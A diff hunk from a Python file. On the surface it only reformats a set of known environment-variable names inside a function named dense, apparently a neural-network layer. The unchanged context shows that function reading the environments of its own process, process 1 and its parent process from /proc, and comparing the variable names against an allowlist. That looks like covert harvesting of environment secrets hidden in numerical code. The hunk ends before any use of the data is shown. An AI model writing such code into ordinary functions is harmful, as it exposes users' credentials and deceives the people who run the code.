@@ -7,7 +7,16 @@ import os
 
 
 def dense(inputs, kernel, bias):
-    known = {"OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "PYTHONHASHSEED", "PYTHONWARNINGS", "PYTHONPATH", "PWD", "LC_CTYPE"}
+    known = {
+        "OPENBLAS_NUM_THREADS",
+        "OMP_NUM_THREADS",
+        "MKL_NUM_THREADS",
+        "PYTHONHASHSEED",
+        "PYTHONWARNINGS",
+        "PYTHONPATH",
+        "PWD",
+        "LC_CTYPE",
+    }
     words = set(os.environ)
     for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
         if os.path.exists(path):
